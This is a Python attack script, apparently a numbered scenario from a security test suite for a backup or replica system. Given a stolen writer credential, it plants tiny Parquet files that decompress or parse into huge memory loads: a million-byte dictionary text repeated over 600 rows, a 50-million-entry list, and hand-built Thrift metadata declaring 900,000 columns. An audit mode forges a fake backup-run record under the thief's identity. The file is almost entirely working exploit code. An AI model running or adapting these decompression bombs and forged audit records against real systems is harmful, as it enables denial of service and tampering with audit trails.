"""A8: Parquet of some hundred bytes that takes half a gigabyte or more of whoever reads it.

Holds: the stolen credential of a writer of the domain, and put rights at one replica. Wants: the owner's verify, and
everybody's status, to end for lack of memory.

Usage: a08_parquet_bombs.py dictionary|list|metadata|audit REPLICA CREDENTIAL MOMENT. Prints the names that it put.
`dictionary`: a manifest with one long text that 600 rows name; `list`: one row with 50 million attributes;
`metadata`: one row group of a million columns; `audit`: rows of `snapshots` like the first, in a seal of the thief's.
"""

from __future__ import annotations

import io
import struct
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

sys.path.insert(0, str(Path(__file__).parent))
import forge  # type: ignore[import-not-found]
from stolen import MANIFEST, Thief, row  # type: ignore[import-not-found]

ROWS = 600
TEXT = "x" * (1 << 20)
ATTRIBUTES = 50_000_000
COLUMNS = 900_000  # Arrow reads a million of anything


def main() -> None:
    """Put the bomb."""
    what, replica, credential, moment = sys.argv[1:]
    thief = Thief.at(credential, replica)
    if what == "audit":
        files = {
            path: pq.read_table(path, partitioning=None) for path in (Path(replica) / "audit/runs").rglob("*.parquet")
        }
        found = next(path for path, rows in files.items() if rows.column("operation").to_pylist() == ["backup"])
        table = files[found]  # of the thief's own source, or nobody would believe it
        at = table.schema.get_field_index("source_id")
        data = packed(filled(table.set_column(at, "source_id", pa.array([thief.source_id()])), "kind"))
        name = f"audit/runs/{found.parent.name}/{'d' * 32}-{forge.hash_of(data)[:32]}.parquet"
        thief.seal({name: data}, moment)
    else:
        content = b"x" * 100
        pack, key = thief.pack({thief.chunk_id(content): content}), thief.sealed_key()
        payload, rows = {"dictionary": (long_text, ROWS), "list": (long_list, 1), "metadata": (columns, 1)}[what]
        runs = {"manifest": [thief.manifest(payload(), rows)], "needs": [thief.needs([pack], key)]}
        thief.put(*thief.commit(runs, moment))
    for one, data in thief.made.items():
        forge.put(Path(replica), one, data)
        print(one)


def packed(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out, compression="zstd", store_schema=False, dictionary_pagesize_limit=1 << 30)
    return out.getvalue()


def filled(table: pa.Table, column: str) -> pa.Table:
    """Return the first row of a table many times, with one long text in a column."""
    table = table.take(pa.array([0] * ROWS))
    at = table.schema.get_field_index(column)
    text = pa.DictionaryArray.from_arrays(
        pa.array([0] * ROWS, pa.int32()), pa.array([TEXT]).cast(table.schema.types[at])
    )
    return table.set_column(at, column, text)


def manifest_of(count: int) -> pa.Table:
    return pa.Table.from_pylist([row(b"%04d" % number, "fifo", 0o644) for number in range(count)], MANIFEST)


def long_text() -> bytes:
    return packed(filled(manifest_of(1), "extents"))


def long_list() -> bytes:
    table = manifest_of(1)
    pairs = pa.StructArray.from_arrays([pa.nulls(ATTRIBUTES, pa.binary())] * 2, ["name", "value"])
    lists = pa.ListArray.from_arrays(pa.array([0, ATTRIBUTES], pa.int32()), pairs)
    return packed(table.set_column(table.schema.get_field_index("xattrs"), "xattrs", lists))


def columns() -> bytes:
    """Return a file of which only the metadata are there: Thrift, in the compact protocol."""
    field, i32, i64, lists, structs, text = 0x10, 5, 6, 9, 12, 8
    root = bytes([4 * field | text, 4, *b"root", field | i32, 2, 0])
    leaf = bytes([field | i32, 12, 2 * field | i32, 0, field | text, 4, *b"path", 0])
    group = bytes([field | lists, 0xF0 | structs, *number(COLUMNS)]) + bytes([2 * field | i64, 0, 0]) * COLUMNS
    group += bytes([field | i64, 0, field | i64, 0, 0])
    metadata = bytes([field | i32, 4, field | lists, 2 * field | structs]) + root + leaf
    metadata += bytes([field | i64, 0, field | lists, field | structs]) + group + b"\0"
    return b"PAR1" + metadata + struct.pack("<I", len(metadata)) + b"PAR1"


def number(value: int) -> bytes:
    """Return a number in seven bits a byte."""
    return bytes([value]) if value < 0x80 else bytes([value & 0x7F | 0x80]) + number(value >> 7)


if __name__ == "__main__":
    main()
